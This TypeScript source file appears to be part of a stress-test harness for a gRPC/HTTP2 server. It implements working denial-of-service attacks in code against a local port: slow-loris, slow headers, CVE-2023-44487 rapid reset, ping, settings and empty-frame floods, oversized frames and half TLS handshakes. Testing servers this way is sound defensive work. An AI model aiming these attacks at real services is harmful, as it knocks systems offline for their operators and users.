import { setTimeout as delay } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import type { Random } from './random.ts';
import {
  CALL_HEADERS,
  FLAG,
  http2Frame,
  literal,
  openCall,
  PREFACE,
  type RawConnection,
  rawConnection,
  settings,
  TYPE,
} from './wire.ts';

/** What an attack has to work with. */
export interface Target {
  readonly port: number;
  readonly random: Random;
  /** How many connections, or how often. */
  readonly count: number;
  /** How long what is held is held. */
  readonly holdMs: number;
  /** A whole request as gRPC frames it, for attacks that begin as honest callers. */
  readonly body: Buffer;
}

export type Attack = (target: Target) => Promise<void>;

const BATCH = 100; // connections opened at once
const STREAMS = 100; // per connection

async function open(port: number, count: number): Promise<RawConnection[]> {
  const out: RawConnection[] = [];
  while (out.length < count) {
    const batch = Array.from({ length: Math.min(BATCH, count - out.length) }, () => rawConnection(port));
    const opened = (await Promise.all(batch)).filter((c) => c !== undefined);
    if (opened.length === 0) break; // it takes no more
    out.push(...opened);
  }
  return out;
}

/** Opens connections, does something on each, holds them, lets go. */
async function each(target: Target, count: number, act: (c: RawConnection) => void): Promise<void> {
  const connections = await open(target.port, count);
  for (const connection of connections) act(connection);
  await delay(target.holdMs);
  for (const { socket } of connections) socket.destroy();
  await Promise.all(connections.map((c) => c.closed));
}

const dataFrame = (stream: number, bytes: Uint8Array, flags = 0): Buffer =>
  http2Frame(TYPE.data, flags, stream, bytes);
const u32 = (value: number): Buffer => {
  const out = Buffer.alloc(4);
  out.writeUInt32BE(value);
  return out;
};
const streamIds = (count: number): number[] => Array.from({ length: count }, (_, i) => 2 * i + 1);
const few = (target: Target): number => Math.max(1, Math.ceil(target.count / STREAMS));

/** By what they do; what a server must live through. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  idleConnections: (target) => each(target, target.count, () => undefined),

  idleSessions: (target) =>
    each(target, target.count, ({ socket }) => {
      socket.write(PREFACE);
      socket.write(settings());
    }),

  /** Slow-loris: bodies that come byte by byte and never end. */
  async dribble(target) {
    const connections = await open(target.port, few(target));
    for (const { socket } of connections) {
      socket.write(
        Buffer.concat([Buffer.from(PREFACE), settings(), ...streamIds(STREAMS).map((id) => openCall(id))]),
      );
    }
    const until = Date.now() + target.holdMs;
    for (let at = 0; Date.now() < until; at++) {
      const byte = target.body.subarray(at % target.body.length, (at % target.body.length) + 1);
      for (const { socket } of connections) {
        if (!socket.destroyed)
          socket.write(Buffer.concat(streamIds(STREAMS).map((id) => dataFrame(id, byte))));
      }
      await delay(100);
    }
    for (const { socket } of connections) socket.destroy();
  },

  /** Announces large messages, sends all but the end of each, and waits. */
  almostWhole: (target) =>
    each(target, few(target), ({ socket }) => {
      const part = Buffer.alloc(16_000);
      socket.write(Buffer.concat([Buffer.from(PREFACE), settings()]));
      for (const id of streamIds(STREAMS)) {
        socket.write(Buffer.concat([openCall(id), dataFrame(id, Buffer.from([0, 0, 0x3f, 0, 0]))]));
        for (let i = 0; i < 4; i++) socket.write(dataFrame(id, part));
      }
    }),

  /** Headers that come byte by byte. */
  async slowHeaders(target) {
    const head = openCall(1);
    const connections = await open(target.port, target.count);
    for (const { socket } of connections) socket.write(Buffer.concat([Buffer.from(PREFACE), settings()]));
    const until = Date.now() + target.holdMs;
    for (let at = 0; at < head.length && Date.now() < until; at++) {
      for (const { socket } of connections) if (!socket.destroyed) socket.write(head.subarray(at, at + 1));
      await delay(100);
    }
    for (const { socket } of connections) socket.destroy();
  },

  /** CVE-2023-44487: calls that are reset at once. */
  async rapidReset(target) {
    const connections = await open(target.port, 4);
    for (let at = 0; at < target.count; at += STREAMS) {
      const wanted = Buffer.concat(
        streamIds(STREAMS).map((id) =>
          Buffer.concat([openCall(id + 2 * at), http2Frame(TYPE.reset, 0, id + 2 * at, u32(8))]),
        ),
      );
      for (const { socket } of connections) {
        const first = at === 0 ? Buffer.concat([Buffer.from(PREFACE), settings()]) : Buffer.alloc(0);
        if (!socket.destroyed) socket.write(Buffer.concat([first, wanted]));
      }
      await delay(1);
    }
    for (const { socket } of connections) socket.destroy();
  },

  /** Whole calls that are given up while they are answered. */
  async callAndReset(target) {
    const connections = await open(target.port, 4);
    for (const { socket } of connections) socket.write(Buffer.concat([Buffer.from(PREFACE), settings()]));
    for (let at = 0; at < target.count / 4; at++) {
      const id = 2 * at + 1;
      for (const { socket } of connections) {
        if (socket.destroyed) continue;
        socket.write(
          Buffer.concat([openCall(id), ...parts(id, target.body), http2Frame(TYPE.reset, 0, id, u32(8))]),
        );
      }
      await delay(1);
    }
    for (const { socket } of connections) socket.destroy();
  },

  /** Calls whose answers are never read: no window for them. */
  neverReads: (target) =>
    each(target, few(target), ({ socket }) => {
      socket.write(Buffer.concat([Buffer.from(PREFACE), settings({ 4: 0 })]));
      for (const id of streamIds(STREAMS))
        socket.write(Buffer.concat([openCall(id), ...parts(id, target.body)]));
    }),

  largeHeaders: (target) =>
    each(target, target.count, ({ socket }) => {
      socket.write(Buffer.concat([Buffer.from(PREFACE), settings()]));
      socket.write(
        http2Frame(TYPE.headers, 0, 1, Buffer.concat([CALL_HEADERS, literal('x-long', 'x'.repeat(15_000))])),
      );
      const more = Buffer.concat(Array.from({ length: 15 }, () => literal('x-more', 'y'.repeat(1000))));
      for (let i = 0; i < 64; i++) socket.write(http2Frame(TYPE.more, 0, 1, more)); // and never the end of them
    }),

  largeFrames: (target) =>
    each(target, target.count, ({ socket }) => {
      socket.write(Buffer.concat([Buffer.from(PREFACE), settings(), openCall(1)]));
      socket.write(Buffer.from([0xff, 0xff, 0xff, TYPE.data, 0, 0, 0, 0, 1]));
      socket.write(Buffer.alloc(65_536));
    }),

  pings: (target) =>
    each(target, 4, ({ socket }) => {
      socket.write(Buffer.concat([Buffer.from(PREFACE), settings()]));
      const some = Buffer.concat(
        Array.from({ length: 1000 }, () => http2Frame(TYPE.ping, 0, 0, Buffer.alloc(8))),
      );
      for (let i = 0; i < target.count / 1000; i++) socket.write(some);
    }),

  settingsFlood: (target) =>
    each(target, 4, ({ socket }) => {
      const some = Buffer.concat(Array.from({ length: 1000 }, () => settings({ 3: 100 })));
      socket.write(PREFACE);
      for (let i = 0; i < target.count / 1000; i++) socket.write(some);
    }),

  emptyFrames: (target) =>
    each(target, 4, ({ socket }) => {
      socket.write(Buffer.concat([Buffer.from(PREFACE), settings(), openCall(1)]));
      const some = Buffer.concat(Array.from({ length: 1000 }, () => dataFrame(1, Buffer.alloc(0))));
      for (let i = 0; i < target.count / 1000; i++) socket.write(some);
    }),

  garbage: (target) =>
    each(target, target.count, ({ socket }) => {
      if (target.random.below(2) === 0) socket.write(PREFACE);
      socket.write(target.random.bytes(256));
    }),

  http1: (target) =>
    each(target, target.count, ({ socket }) => socket.write('GET / HTTP/1.1\r\nHost: x\r\n\r\n')),
};

/** Against a port that speaks TLS. */
export const TLS_ATTACKS: Readonly<Record<string, Attack>> = {
  plainOnTls: (target) =>
    each(target, target.count, ({ socket }) => {
      socket.write(Buffer.concat([Buffer.from(PREFACE), settings()]));
    }),

  silentOnTls: (target) => each(target, target.count, () => undefined),

  halfHandshake: (target) =>
    each(target, target.count, ({ socket }) => {
      // A ClientHello that says it is longer than what comes.
      socket.write(Buffer.from([0x16, 3, 1, 1, 0, 1, 0, 0xfc, 3, 3, ...target.random.bytes(32)]));
    }),

  async noCertificate(target) {
    for (let at = 0; at < target.count; at += BATCH) {
      await Promise.all(
        Array.from({ length: Math.min(BATCH, target.count - at) }, () => {
          return new Promise<void>((resolve) => {
            const socket = connectTls({
              port: target.port,
              host: '127.0.0.1',
              rejectUnauthorized: false,
              ALPNProtocols: ['h2'],
            });
            socket.on('error', () => undefined);
            socket.on('data', () => undefined);
            socket.on('close', () => resolve());
            setTimeout(() => socket.destroy(), Math.min(1000, target.holdMs)).unref();
          });
        }),
      );
    }
  },
};

function parts(stream: number, body: Buffer): Buffer[] {
  const out: Buffer[] = [];
  for (let at = 0; at < body.length; at += 16_000) {
    const last = at + 16_000 >= body.length;
    out.push(dataFrame(stream, body.subarray(at, at + 16_000), last ? FLAG.endStream : 0));
  }
  return out;
}
